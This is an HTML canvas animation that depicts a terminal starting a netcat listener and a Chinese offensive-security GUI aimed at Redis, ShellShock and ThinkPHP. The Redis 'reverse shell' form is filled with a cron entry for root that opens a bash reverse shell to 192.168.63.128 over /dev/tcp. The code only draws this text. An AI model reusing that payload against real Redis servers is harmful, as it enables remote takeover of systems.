
An HTML page with a canvas for the animation above (8 s loop, 903 by 620 pixels).

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<style>
html, body { margin: 0; width: 903px; height: 620px; overflow: hidden; background: #000; }
canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="903" height="620"></canvas>
<script>
const W = 903, H = 620, LOOP = 8000;
const stage = document.getElementById('stage').getContext('2d');
const MONO = '"DejaVu Sans Mono", monospace';
const TITLE = 'Roboto, sans-serif';
const UI = '"Liberation Sans", "Noto Sans CJK SC", "Noto Sans CJK", sans-serif';
const USER = 'kestril.ye', HOST = 'kestrilyedeLitDesk-Pod';

function layer(w, h, draw) {
  const c = document.createElement('canvas');
  c.width = w; c.height = h;
  draw(c.getContext('2d'));
  return c;
}
function trace(g, pts) {
  g.beginPath();
  for (let i = 0; i < pts.length; i += 2) g.lineTo(pts[i], pts[i + 1]);
}
function poly(g, pts, fill) { trace(g, pts); g.fillStyle = fill; g.fill(); }
function line(g, pts, color, width = 1) {
  trace(g, pts);
  g.strokeStyle = color; g.lineWidth = width; g.stroke();
}
function arc(g, x, y, r, color, width = 1, from = 0, to = 7) {
  g.beginPath(); g.arc(x, y, r, from, to);
  g.strokeStyle = color; g.lineWidth = width; g.stroke();
}
function disc(g, x, y, r, fill) {
  g.beginPath(); g.arc(x, y, r, 0, 7);
  g.fillStyle = fill; g.fill();
}
function rect(g, x, y, w, h, fill) { g.fillStyle = fill; g.fillRect(x, y, w, h); }
function round(g, x, y, w, h, r, fill, stroke) {
  g.beginPath(); g.roundRect(x, y, w, h, r);
  if (fill) { g.fillStyle = fill; g.fill(); }
  if (stroke) { g.strokeStyle = stroke; g.lineWidth = 1; g.stroke(); }
}
function text(g, s, x, y, font, color, align = 'left') {
  g.font = font; g.fillStyle = color; g.textAlign = align; g.textBaseline = 'middle';
  g.fillText(s, x, y);
}
function ramp(g, x0, y0, x1, y1, ...colors) {
  const r = g.createLinearGradient(x0, y0, x1, y1);
  colors.forEach((c, i) => r.addColorStop(i / (colors.length - 1), c));
  return r;
}
function turned(g, x, y, angle, draw) {
  g.save(); g.translate(x, y); g.rotate(angle); draw(); g.restore();
}

// ---- desktop ----
function key(g, x, y, label = '', w = 50) {
  turned(g, x, y, -.49, () => {
    round(g, -w / 2, -24, w, 48, 6, '#050505', '#131313');
    const upper = label[1];
    text(g, label[0] || '', 0, upper ? 8 : 0, '16px ' + UI, '#c4c4c4', 'center');
    if (upper) text(g, upper, 0, -9, '14px ' + UI, '#b0b0b0', 'center');
  });
}

function laptop(g) {
  turned(g, 0, 324, -.49, () => {
    rect(g, -200, -400, 590, 400, '#1c1c1c');
    rect(g, -200, 0, 640, 312, ramp(g, 0, 0, 176, 94, '#434343', '#3b3b3b', '#1e1e1e'));
    rect(g, -200, 304, 640, 8, '#060606');
    rect(g, -200, -1, 640, 1, '#5c5c5c');
  });
  const rows = [['0=', 'ß?', "'", ''], ['O', 'P', '', '*', '↵'], ['K', 'L', ''], ['M', ',;', '']];
  rows.forEach((labels, r) => labels.forEach((s, i) => key(g, 20 - 6 * r + 50 * i, 51 + 56 * r - 26 * i, s)));
  key(g, -5, 273, '', 100);
  key(g, 66, 240, '⌘');
  text(g, '@', 67, 142, '11px ' + UI, '#777');
  text(g, 'co', 68, 257, '11px ' + UI, '#aaa');
}

function phone(g) {
  turned(g, 848, 258, -.53, () => {
    rect(g, -270, 90, 100, 500, ramp(g, -270, 0, -200, 0, 'rgba(0,0,0,0)', '#020202'));
    round(g, -188, 0, 188, 500, 24, ramp(g, 0, 0, -40, 400, '#161616', '#181818', '#0b0b0b'), '#262626');
    line(g, [-2, 20, -2, 140], ramp(g, 0, 20, 0, 140, '#333', '#8a8a8a', '#555'), 3);
  });
  disc(g, 714, 363, 15, '#040404');
  arc(g, 714, 363, 14, '#8a8a8a', 1.5, -1, 1);
  disc(g, 744.5, 346, 6, '#dedede');
  disc(g, 823, 400, 21, '#2a2a2a');
  disc(g, 815, 443, 1, '#777');
}

function leather(g) {
  const sheen = g.createRadialGradient(830, 190, 20, 830, 190, 170);
  sheen.addColorStop(0, '#1b1b1b');
  sheen.addColorStop(1, '#0d0d0d');
  rect(g, 690, 0, 213, H, sheen);
  let seed = 7;
  const rnd = () => (seed = seed * 16807 % 2147483647) / 2147483647;
  for (let i = 0; i < 500; i++) {
    const x = 700 + rnd() * 200, y = 60 + rnd() * 230, d = rnd() * 8 - 4;
    line(g, [x, y, x + d, y + 3, x + d * 1.5, y + 6], `rgba(255,255,255,${.01 + rnd() * .05})`);
  }
}

function lens(g) {
  disc(g, 915, 30, 90, '#050505');
  for (let a = 2; a < 3.4; a += .09) {
    arc(g, 912, 25, 60, '#202020', 7, a, a + .03);
  }
  arc(g, 912, 25, 44, '#222', 2);
  line(g, [848, 17, 873, 7, 903, 5], '#3b3b3b', 3);
}

const desktop = layer(W, H, g => {
  rect(g, 0, 0, W, H, '#0a0a0a');
  leather(g);
  laptop(g);

  // objects along the upper edge
  poly(g, [388, 0, 500, 0, 518, 24, 420, 24], '#191919');
  poly(g, [494, 0, 635, 0, 652, 24, 515, 24], ramp(g, 500, 0, 650, 0, '#fff', '#e5e5e5'));
  g.beginPath(); g.ellipse(690, 56, 24, 34, 0, 0, 7);
  g.fillStyle = '#c4c4c4'; g.fill();
  lens(g);

  poly(g, [690, 566, 706, 566, 741, 620, 722, 620], ramp(g, 707, 600, 728, 587, '#141414', '#626262', '#171717'));
  phone(g);
  text(g, 'v', 899, 519, 'bold 10px "Open Sans", sans-serif', '#fff');
  text(g, 'wk', 890, 613, 'bold 11px "Open Sans", sans-serif', '#fff');

  // terminal frame
  g.save();
  g.shadowColor = 'rgba(0,0,0,.75)'; g.shadowBlur = 26; g.shadowOffsetY = 9;
  round(g, 79, 21, 628, 544, 5, '#1e1e1e');
  g.restore();
  round(g, 79, 21, 628, 18, [5, 5, 0, 0], ramp(g, 0, 21, 0, 39, '#414141', '#353535'));
  rect(g, 79, 38, 628, 1, '#151515');
  rect(g, 695, 39, 11, 525, '#383838');
  rect(g, 695, 39, 1, 525, '#4a4a4a');
  round(g, 698, 528, 7, 34, 3.5, '#858585');
  round(g, 698.5, 41.5, 6, 7, 0, null, '#999');
  rect(g, 698, 44.5, 7, 1, '#999');
  round(g, 79.5, 20.5, 627, 544, 5, null, '#606060');
  ['#fc5b57', '#e5bf2c', '#4cc038'].forEach((c, i) => disc(g, 90.5 + i * 16.8, 29.5, 5, c));
});

// ---- terminal ----
const CELL = 5.92, col = n => 82.5 + n * CELL;
const BOLD = 'bold 9.83px ' + MONO, PLAIN = '9.83px ' + MONO;
const ENTER = 2240;

// one slip erased, then a slow start and an even run of digits
function command(t) {
  if (t < 150) return 'nc l';
  const typed = t < 1050 ? (t - 150) / 300 : 3 + (t - 1050) / 150;
  return 'nc ' + '-l 8888'.slice(0, Math.floor(typed));
}

function house(g, x, alpha) {
  g.globalAlpha = alpha;
  rect(g, x - 4, 29, 8, 6, '#dcc8a2');
  poly(g, [x - 5.5, 30, x, 24.5, x + 5.5, 30], '#b56a4b');
  rect(g, x - 1, 31, 3, 4, '#80533a');
  g.globalAlpha = 1;
}

// prompt block from x0 to x1; the left and right ends may be pointed
function segment(g, x0, x1, fill, left = 0, right = 0) {
  poly(g, [x0, 47, x0 + left, 39, x1, 39, x1 + right, 47, x1, 55, x0 + left, 55], fill);
}

function terminal(g, t) {
  const running = t >= ENTER;
  const title = running
    ? `${USER} — nc -l 8888 — nc — nc -l 8888 — 103×31`
    : `${USER} — ${USER}@${HOST} — ~ — -zsh — 103×31`;
  const x = running ? 263 : 217;
  house(g, x - 9.5, running ? .55 : 1);
  text(g, title, x, 30, '12.25px ' + TITLE, '#b2b2b2');

  segment(g, 312, 312, '#5b42ef', 0, 8.5);
  segment(g, 289, 312, '#1500b0');
  segment(g, 83, 289, '#000', 0, 8);
  segment(g, 602, 632, '#000', 7);
  segment(g, 624.5, 690.5, '#c7c7c7', 7.5);
  const put = (s, at, color, font = BOLD) => text(g, s, at, 47.25, font, color);
  put(`${USER}@${HOST}`, col(1), '#aaa31c');
  put('~', 301, '#06003f');
  put('✔', 613, '#10b414', PLAIN);
  put('15:13:59', 637.5, '#000');

  const cmd = command(t);
  put('nc', col(41), '#36d430');
  put(cmd.slice(2), col(43), '#fff');
  if (running) {
    disc(g, 90.5, 29.5, 1.6, '#7a1410');
    put('[', 79, '#8a8a8a', PLAIN);
    put(']', 689.5, '#8a8a8a', PLAIN);
    rect(g, 82.5, 55, 6, 16, '#9b9b9b');
  } else {
    rect(g, Math.round(col(41 + cmd.length)), 39, 6, 15.5, '#9b9b9b');
  }
}

// ---- application window, flat; warped when shown ----
const APP_W = 888, APP_H = 640;
const app = layer(APP_W, APP_H, g => {
  const INK = '#303133', GREY = '#5f6266', PALE = '#bbbfc7', ICON = '#909399', RULE = '#e4e7ed';
  const put = (s, x, y, color = GREY, style = '12px ') => text(g, s, x, y, style + UI, color);
  const box = (x, y, w, fill = '#fff', h = 33) => round(g, x + .5, y + .5, w, h, 4, fill, '#dfe2e8');
  const chevron = (x, y, up) => line(g, [x - 4, y + 2 * up, x, y - 2 * up, x + 4, y + 2 * up], '#a5a8ad');
  const next = x => line(g, [x - 2, 45, x + 2, 49, x - 2, 53], '#c0c4cc');
  // ring of n points whose radius alternates between two values
  const ring = (x, y, n, outer, inner) => {
    const pts = [];
    for (let i = 0; i <= n; i++) {
      const a = i / n * 2 * Math.PI, r = i % 2 ? inner : outer;
      pts.push(x + r * Math.sin(a), y - r * Math.cos(a));
    }
    line(g, pts, ICON);
  };

  round(g, 0, 0, APP_W, APP_H, [5, 5, 0, 0], '#fefefe');
  round(g, 0, 0, APP_W, 18, [5, 5, 0, 0], '#f4f4f4');
  rect(g, 0, 18, APP_W, 1, '#dedede');
  for (let i = 0; i < 3; i++) disc(g, 11 + i * 17, 9, 5, '#dadada');
  text(g, 'Vindelipora', 444, 9.5, '11.4px ' + UI, '#b0b0b0', 'center');

  // sidebar
  rect(g, 6, 25, 882, 1, '#f3f3f3');
  rect(g, 174, 25, 1, 328, '#e6e6e6');
  rect(g, 6, 353, 169, APP_H, '#eceff7');
  const entry = (s, y, up = -1) => { put(s, 47, y, INK); chevron(152, y, up); };
  entry('信息收集', 49);
  entry('暴力破解', 97);
  entry('漏洞利用', 144, 1);
  entry('系统设置', 330);
  ['Redis', 'ShellShock', 'ThinkPHP'].forEach((s, i) => put(s, 40, 201 + i * 42, INK));
  g.beginPath(); g.ellipse(32.5, 50, 7, 4.5, 0, 0, 7);
  g.strokeStyle = ICON; g.stroke();
  arc(g, 32.5, 50, 2.2, ICON);
  line(g, [27, 97, 38, 92, 34, 103, 32, 98, 27, 97], ICON);
  ring(32.5, 145, 10, 6.8, 3.4);
  ring(32.5, 331, 6, 6.5, 6.5);
  arc(g, 32.5, 331, 2.2, ICON);

  // breadcrumb and card
  put('首页', 191, 49, INK, 'bold 12px ');
  next(226);
  put('漏洞利用', 236, 49);
  next(294);
  put('Redis', 305, 49);
  g.save();
  g.shadowColor = 'rgba(0,0,0,.12)'; g.shadowBlur = 8; g.shadowOffsetY = 2;
  round(g, 191.5, 67.5, 686, 497, 4, '#fefefe', '#e6e8ee');
  g.restore();

  // tabs
  line(g, [209.5, 119, 209.5, 85.5, 481.5, 85.5, 481.5, 119], RULE);
  rect(g, 293, 86, 1, 33, RULE);
  rect(g, 375, 86, 1, 33, RULE);
  rect(g, 293, 119, 565, 1, '#e0e3e9');
  put('反弹shell', 226, 102.5, '#409eff', '500 12px ');
  put('写入公钥', 310, 102.5, INK, '500 12px ');
  put('写入webshell', 391, 102.5, INK, '500 12px ');

  // form
  const field = (label, x, y, left, w, value = '', fill, color) => {
    put(label, x, y + 17.5);
    box(left, y, w, fill);
    put(value, left + 13.5, y + 17.5, color);
  };
  field('主机地址', 219, 132, 276, 175);
  field('端口号', 474, 132, 519, 68, '6379');
  field('密码', 621, 132, 655, 121);
  field('', 0, 132, 802, 50);
  text(g, 'Go', 827, 149.5, '12px ' + UI, GREY, 'center');
  round(g, 210.5, 185.5, 648, 361, 3, null, '#eeeff2');
  field('保存路径', 237, 202, 294, 546, '/var/spool/cron/', '#f4f6fb', PALE);
  field('文件名', 250, 254.5, 294, 546, 'root', '#f4f6fb', PALE);
  put('内容', 261, 324);
  box(295, 324, 545, '#fff', 187);
  put('* * * * * bash -i >& /dev/tcp/192.168.63.128/7999 0>&1', 308, 338.5);
  line(g, [833, 509, 838, 504], '#777');
  line(g, [836, 509, 838, 507], '#777');
});

// start time, top of the window, top of the bend, strength of the bend
const POSES = [[7630, 134, -66, 1], [7780, -18, -16, 1], [7930, 6, 6, .037]];
const SPAN = 690;

function genie(g, [, top, bend, strength]) {
  for (let y = Math.max(top, 0); y < H; y++) {
    const u = Math.min(1, Math.max(0, (y - bend) / SPAN));
    const pull = strength * (1 - Math.cos(Math.PI * u)) / 2;
    const left = 11 + 1128 * pull, right = 899 + 326 * pull;
    g.drawImage(app, 0, y - top, APP_W, 1, left, y, right - left, 1);
  }
}

// ---- pointer ----
const POINTER = [
  [0, beam, 419, 141], [3290, beam, 416, 143], [3440, beam, 415, 145],
  [5080, beam, 416, 144], [5230, beam, 429, 140], [5380, beam, 537, 191],
  [5530, arrow, 830, 423], [5680, () => {}], [7930, arrow, 847, 414]
];
function beam(g, x, y) {
  turned(g, x + .5, y, 0, () => {
    for (const [color, width] of [['#e4e4e4', 3], ['#111', 1]]) {
      for (const s of [-1, 1]) line(g, [-3, 6.5 * s, -1, 6.5 * s, 0, 5 * s, 1, 6.5 * s, 3, 6.5 * s], color, width);
      line(g, [0, -5.5, 0, 5.5], color, width);
      line(g, [-2, 2.5, 2, 2.5], color, width);
    }
  });
}
function arrow(g, x, y) {
  turned(g, x, y, 0, () => {
    const shape = [0, 0, 0, 11, 2.5, 9, 4.5, 13.5, 6.5, 12.5, 4.7, 8.4, 8, 8.2, 0, 0];
    line(g, shape, '#fff', 2);
    poly(g, shape, '#000');
  });
}

const latest = (list, t) => list.filter(e => e[0] <= t).pop();

function render(now) {
  const t = now % LOOP;
  stage.drawImage(desktop, 0, 0);
  terminal(stage, t);
  const pose = latest(POSES, t);
  if (pose) genie(stage, pose);
  const [, shape, x, y] = latest(POINTER, t);
  shape(stage, x, y);
}

const start = performance.now();
function tick() {
  render(performance.now() - start);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
